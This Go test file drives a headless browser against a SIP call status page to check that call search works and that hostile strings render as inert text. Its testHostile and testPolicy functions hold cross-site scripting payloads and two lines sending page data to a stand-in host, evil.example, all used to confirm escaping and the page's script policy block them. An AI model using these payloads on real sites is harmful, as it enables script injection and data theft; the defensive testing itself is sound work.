package statuspage

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"binrepd/dialog/escape"
	"binrepd/userspace/watch/control"
)

// search types a Call-ID and presses Enter.
func (p *tab) search(callID string) {
	p.t.Helper()
	evaluate[int](p, "document.getElementById('callid').select(), 0")
	p.do(chromedp.SendKeys("#callid", callID+"\r"))
}

func testSearch(t *testing.T, b *chromium) {
	now := time.Now()
	a := busy(now)
	a.dialogs["a84b4c76e66710@proxy-a.example.net"] = []control.Dialog{call(now, "a84b4c76e66710@proxy-a.example.net")}
	for i := range 40 {
		d := call(now, "forked")
		d.Callees[0].Tag = control.Text(fmt.Sprintf("branch-%d", i))
		a.dialogs["forked"] = append(a.dialogs["forked"], d)
	}
	p := b.open(t, serve(t, a).URL+"/", desktop)
	p.search("  Call-ID: a84b4c76e66710@proxy-a.example.net ")
	p.await("the call", "document.querySelector('#call article')")
	p.has("#call-title", "Call a84b4c76e66710@proxy-a.example.net")
	p.has("#call-note", "One dialog at ")
	p.has("#call article", "confirmed sip:+4930123456@proxy-a.example.net → sip:+4940987654@proxy-b.example.net;user=phone", ", 3d 4h ago", ", in 1d 6h",
		"Came from 10.0.0.11:5555", "h_id 2841", "Flags 17", "Tag as6f3b2c1d", "Contact sip:+4930123456@192.0.2.44:5062;transport=udp;ob",
		"<sip:[2001:db8:85a3:8d3:1319:8a2e:370:7348]:5060;lr>", "Socket udp:10.0.0.1:5060", "CSeq 102", "Tag 7dd1c0a94e", "CSeq 0",
		"account acme-4711", "profile caller acme")
	if got := evaluate[string](p, "document.activeElement.id"); got != "call-title" {
		t.Errorf("the focus is on %q, not on what was found", got)
	}

	p.search("forked")
	p.await("the forked call", "document.querySelectorAll('#call article').length === 32")
	p.has("#call-note", "40 dialogs at ", "the first 32 are shown, binrepd dialogs get shows all.")

	p.search("nobody")
	p.await("that nothing was found", "document.getElementById('call-note').textContent.startsWith('Not in the table')")
	if got := evaluate[int](p, "document.querySelectorAll('#call article').length"); got != 0 {
		t.Errorf("%d dialogs of an unknown call", got)
	}
	evaluate[int](p, "document.activeElement.blur(), 0")
	p.key("Escape")
	p.await("the end of the search", "document.getElementById('call').hidden && location.hash === ''")
	p.quiet()
}

// testHostile searches for strings of an attacker. All of them are shown as text and do nothing.
func testHostile(t *testing.T, b *chromium) {
	now := time.Now()
	a := busy(now)
	a.dialogs[hostileCallID] = []control.Dialog{hostile(now)}
	a.change(now, func(s *control.Status) {
		s.Reason, s.FallbackReason = hostileURI, hostileURI
		s.Problems = []control.Problem{{Code: control.SaveFailing, Text: hostileURI}}
		s.Destinations[0].Cause, s.Destinations[0].State = hostileURI, "refused"
		s.Rejected = map[string]uint64{hostileURI: 3, "__proto__": 4}
		s.Listeners[0].Lost = map[string]uint64{hostileURI: 1}
		s.State.Error = hostileURI
	})
	p := b.open(t, serve(t, a).URL+"/", phone)
	before := evaluate[string](p, "[document.scripts.length, document.images.length, document.querySelectorAll('iframe, object, embed, base, [onerror], [onload]').length].join()")
	p.search(hostileCallID)
	p.await("the call", "document.querySelector('#call article')")

	// Every string is shown completely, with escapes for invisible characters.
	shown := escape.String(hostileURI)
	if n := evaluate[int](p, fmt.Sprintf("document.getElementById('call').textContent.split(%q).length - 1", shown)); n < 14 {
		t.Errorf("the URI is shown %d times in the call, want 14 or more", n)
	}
	if got := evaluate[string](p, "document.getElementById('call-title').textContent"); got != "Call "+hostileCallID {
		t.Errorf("title of the call: %q", got)
	}
	if got := evaluate[string](p, "document.querySelector('#call article').textContent"); !strings.Contains(got, `\x00\x1b[31m\xff`) || strings.ContainsAny(got, "\u202e\x1b\x00") {
		t.Errorf("control characters aren't shown as escapes: %q", got)
	}
	if got := evaluate[string](p, "document.getElementById('losses-table').textContent"); !strings.Contains(got, "<script>throw new Error('owned')</script>") {
		t.Errorf("losses: %q", got)
	}
	p.has("#call", "__proto__", "<b>name</b>", "javascript:alert(1)")

	// None of them became an element or a script.
	if got := evaluate[string](p, "document.title"); strings.Contains(got, "owned") {
		t.Error("a script of the attacker ran")
	}
	if got := evaluate[string](p, "[document.scripts.length, document.images.length, document.querySelectorAll('iframe, object, embed, base, [onerror], [onload]').length].join()"); got != before {
		t.Errorf("scripts, images, others: %s, before %s", got, before)
	}
	if got := evaluate[int](p, "document.querySelectorAll('#call a, #call img, #call svg, #call script, #call b, [href^=javascript]').length"); got != 0 {
		t.Errorf("%d elements were made of the call's strings", got)
	}
	if wide := evaluate[[]string](p, wide); len(wide) > 0 {
		t.Errorf("long strings don't fit a phone: %q", wide)
	}
	p.quiet()
	if p.dialogs != 0 {
		t.Errorf("%d windows of alert() were opened", p.dialogs)
	}
}

// testAddress: a call can be bookmarked, and a bookmark can't do more than a search.
func testAddress(t *testing.T, b *chromium) {
	now := time.Now()
	a := busy(now)
	a.dialogs[hostileCallID] = []control.Dialog{hostile(now)}
	a.dialogs["other"] = []control.Dialog{call(now, "other")}
	p := b.open(t, serve(t, a).URL+"/", desktop)
	link := "#" + url.Values{"call": {hostileCallID}}.Encode()
	p.do(chromedp.Navigate(p.url + link))
	p.await("the call", "document.querySelector('#call article')")
	if got := evaluate[string](p, "document.getElementById('call-title').textContent"); got != "Call "+hostileCallID {
		t.Errorf("title of the call: %q", got)
	}
	p.do(chromedp.Reload())
	p.await("the call again", "document.querySelector('#call article')")
	evaluate[string](p, "location.hash = 'call=other'")
	p.await("the other call", "document.getElementById('call-title').textContent === 'Call other' && document.querySelector('#call article')")
	p.quiet()
}

// testPolicy puts markup and scripts into the page, as a flaw in it might allow. The policy blocks them.
func testPolicy(t *testing.T, b *chromium) {
	p := b.open(t, serve(t, busy(time.Now())).URL+"/", desktop)
	p.await("the numbers", "!document.getElementById('numbers').hidden")
	for _, attack := range []string{
		`document.body.append(Object.assign(document.createElement('img'), {src: 'x'}))`,
		`{ const s = document.createElement('script'); s.append("document.title = 'owned'"); document.body.append(s); }`,
		`{ const s = document.createElement('script'); s.src = '/api/status'; document.body.append(s); }`,
		`document.body.setAttribute('onclick', "document.title = 'owned'"), document.body.click()`,
		`document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="document.title=\'owned\'">')`,
		`document.body.innerHTML = '<p>owned</p>'`,
		`document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<script>parent.document.title="owned"</script>'}))`,
		`document.body.append(Object.assign(document.createElement('a'), {href: 'javascript:document.title="owned"', id: 'trap'})), document.getElementById('trap').click()`,
		`eval("document.title = 'owned'")`,
		`fetch('http://evil.example/?' + document.title).catch(() => 0)`,
		`{ const f = document.createElement('form'); f.action = 'http://evil.example/'; document.body.append(f); f.submit(); }`,
	} {
		// The attack may also throw an exception.
		evaluate[int](p, "(() => { try { "+attack+" } catch (err) {} })(), 0")
	}
	p.await("the next answer", "performance.getEntriesByType('resource').filter((e) => e.name.endsWith('/api/status')).length > 3")
	if got := evaluate[string](p, "document.title + ' ' + location.pathname"); got != "READY · 127.0.0.1 · binrepd /" {
		t.Errorf("now it is %q", got)
	}
	p.has("#state", "READY")
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, url := range p.loaded {
		if !strings.HasPrefix(url, p.url) && !strings.HasPrefix(url, "data:") {
			t.Errorf("loaded %s", url)
		}
	}
}
